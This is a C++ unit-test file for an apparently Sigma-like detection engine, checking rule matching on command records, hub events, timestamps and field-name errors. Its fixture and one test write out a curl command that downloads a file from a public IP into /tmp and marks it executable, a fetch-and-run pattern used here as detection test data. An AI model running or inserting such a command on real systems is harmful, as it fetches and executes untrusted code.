#include "sigma/record.h"

#include <gtest/gtest.h>

#include "sigma/fields.h"
#include "sigma/library.h"
#include "sigma/rule_set.h"

namespace sigma {
namespace {

// sh -c "curl -fsS http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x"
Record download() {
  Record record(Source::command());
  record.add(command_field(shell::Field::Program), "curl");
  record.add(command_field(shell::Field::CommandLine), "curl -fsS http://203.0.113.9/x -o /tmp/x");
  for (const char* option : {"-f", "-s", "-S", "-o"})
    record.add(command_field(shell::Field::Option), option);
  record.add(command_field(shell::Field::Url), "http://203.0.113.9/x");
  record.add(command_field(shell::Field::AddressScope), "public");
  record.add(command_field(shell::Field::Writes), "/tmp/x");
  record.add(command_field(shell::Field::Writes), "/tmp/LOG");
  record.add(command_field(shell::Field::DownloadsTo), "/tmp/x");
  record.add(command_field(shell::Field::Next), "chmod");
  record.add_number(command_field(shell::Field::Chained), 2);
  record.add_filled(command_field(shell::Field::Terminal), "");
  return record;
}

// Whether a rule of this selection and log source matches.
bool matches(const Record& record, const std::string& selection,
             const std::string& source = "{product: linux, category: command}") {
  auto parsed = parse("title: t\nlogsource: " + source + "\ndetection:\n  s: " + selection +
                      "\n  condition: s\n");
  EXPECT_EQ(parsed.rules.size(), 1U) << selection;
  RuleSet set;
  for (Rule& rule : parsed.rules) {
    const auto added = set.add(std::move(rule));
    EXPECT_TRUE(added) << added.error().problem.to_string(selection);
  }
  set.build();
  RuleSet::Scratch scratch;
  std::vector<Hit> hits;
  set.match(Subject(record), scratch, hits);
  return !hits.empty();
}

TEST(Record, AFieldMatchesWhenAnyOfItsValuesDoes) {
  struct Case {
    const char* selection;
    bool holds;
  };
  const Record record = download();
  for (const Case& test :
       std::initializer_list<Case>{{"{Program: curl, Option: '-o'}", true},
                                   {"{Program: curl, Option: '-O'}", true},
                                   {"{Option|cased: '-O'}", false},
                                   {"{Option|all: ['-s', '-f']}", true},
                                   {"{Option|all: ['-s', '-x']}", false},
                                   {"{Option|contains|all: [s, f]}", true},
                                   {"{Option|neq: '-o'}", false},
                                   {"{Option|neq: '-x'}", true},
                                   {"{Writes|startswith: /tmp/, Writes|endswith: log}", true},
                                   {"{Writes|re: '^/tmp/[A-Z]+$'}", true},
                                   {"{Writes|fieldref: DownloadsTo}", true},
                                   {"{Program|fieldref: Writes}", false},
                                   {"{Previous|exists: false, Next|exists: true}", true},
                                   {"{Terminal: null, Next: null}", false},
                                   {"{Terminal: null}", true},
                                   {"{Chained|gte: 2}", true},
                                   {"{Chained: 2}", true},
                                   {"{Chained|gt: 2}", false},
                                   {"[curl -fsS]", true},
                                   {"[wget]", false}}) {
    EXPECT_EQ(matches(record, test.selection), test.holds) << test.selection;
  }
}

TEST(Record, SaysWhichValueMatched) {
  auto parsed = parse(
      "title: t\nlogsource: {category: command}\n"
      "detection: {s: {Writes|endswith: log, Option|all: ['-S', '-f']}, condition: s}\n");
  RuleSet set;
  ASSERT_TRUE(set.add(std::move(parsed.rules.at(0))));
  set.build();
  RuleSet::Scratch scratch;
  std::vector<Hit> hits;
  const Record record = download();
  set.match(Subject(record), scratch, hits);
  ASSERT_EQ(hits.size(), 1U);
  ASSERT_EQ(hits[0].matched.size(), 3U);
  EXPECT_EQ(hits[0].matched[0].field, "Writes");
  EXPECT_EQ(hits[0].matched[0].value, "/tmp/LOG");
  EXPECT_EQ(hits[0].matched[0].found, "LOG");
  EXPECT_EQ(hits[0].matched[1].value, "-s");
  EXPECT_EQ(hits[0].matched[2].value, "-f");
}

TEST(Record, TheHubsOwn) {
  Record operation(Source::hub_operation());
  operation.add(operation_field("Category"), "Connections");
  operation.add(operation_field("Reason"), "sas_expired");
  operation.add_number(operation_field("StatusCode"), 401);
  operation.add_property("auth.type", "sas");
  const std::string source = "{product: vedette, service: hub_operations}";
  EXPECT_TRUE(matches(operation, "{Reason: sas_expired, StatusCode|gte: 400}", source));
  EXPECT_TRUE(matches(operation, "{Properties.auth.type: SAS, StatusCode: 401}", source));
  EXPECT_FALSE(matches(operation, "{Properties.tls: x}", source));
  EXPECT_TRUE(matches(operation, "[expired]", "{service: hub_operations}"));

  Record change(Source::hub_audit());
  change.add(audit_field("OperationName"), "certificate.put");
  change.add(audit_field("ResultType"), "Failure");
  EXPECT_TRUE(matches(change, "{OperationName|startswith: certificate., ResultType: Failure}",
                      "{product: vedette, service: hub_audit}"));
  EXPECT_FALSE(matches(change, "{OperationName|exists: true}", source)) << "another source";
}

TEST(Record, TimeOfWhatHappened) {
  Record record = download();
  record.set_time(*base::parse_rfc3339("2026-03-01T23:30:00+01:00"));
  EXPECT_TRUE(matches(record, "{TimestampLocal|hour: 23, TimestampUTC|hour: 22}"));
}

TEST(Record, CommandsOfAProcess) {
  shell::Commands commands;
  shell::Process process;
  process.executable = "/usr/bin/curl";
  process.command_line = "curl -fsS http://203.0.113.9/x";
  commands.read(process);
  ASSERT_EQ(commands.size(), 1U);
  schema::Event event;
  event.time = *base::parse_rfc3339("2026-03-01T23:30:00+01:00");
  auto parsed = parse(
      "title: t\nlogsource: {category: command}\n"
      "detection: {s: {Program: curl, Url|startswith: 'http:', TimestampLocal|hour: 23}, "
      "condition: s}\n");
  RuleSet set;
  ASSERT_TRUE(set.add(std::move(parsed.rules.at(0))));
  set.build();
  RuleSet::Scratch scratch;
  std::vector<Hit> hits;
  set.match(Subject(commands, 0, event), scratch, hits);
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_EQ(hits[0].matched[1].field, "Url");
}

TEST(Record, ForgetsWhatItHeld) {
  Record record = download();
  record.clear();
  EXPECT_TRUE(record.values(command_field(shell::Field::Option)).empty());
  record.add(command_field(shell::Field::Option), "-x");
  EXPECT_TRUE(matches(record, "{Option: '-x', Program: null}"));
}

TEST(Record, FieldsThatThereAreNone) {
  struct Case {
    const char* source;
    const char* message;
  };
  for (const Case& test : std::initializer_list<Case>{
           {"{category: command}",
            "r:3:17: expected a field of Command, found 'Progam' (did you mean 'Program'?)"},
           {"{product: vedette, service: hub_audit}",
            "r:3:17: expected a field of HubAudit or Properties.<name>, found 'Progam'"},
           {"{product: vedette, service: hub_audits}",
            "r:2:12: there are no events for logsource product=vedette service=hub_audits (did "
            "you mean 'hub_audit'?)"}}) {
    LibraryBuilder builder;
    builder.add("r", std::string("title: t\nlogsource: ") + test.source +
                         "\ndetection: {s: {Progam: x}, condition: s}\n");
    const Library library = std::move(builder).build();
    ASSERT_EQ(library.problems.size(), 1U);
    EXPECT_EQ(library.problems[0].problem.to_string("r"), test.message);
  }
}

TEST(Record, SeveralValuesAsOneText) {
  const Record record = download();
  const auto field = FieldReader::find(Source::command(), "Writes");
  ASSERT_TRUE(field);
  EXPECT_EQ(field->read_all(Subject(record)), "/tmp/x, /tmp/LOG");
  EXPECT_EQ(FieldReader::find(Source::command(), "Previous")->read_all(Subject(record)),
            std::nullopt);
}

}  // namespace
}  // namespace sigma
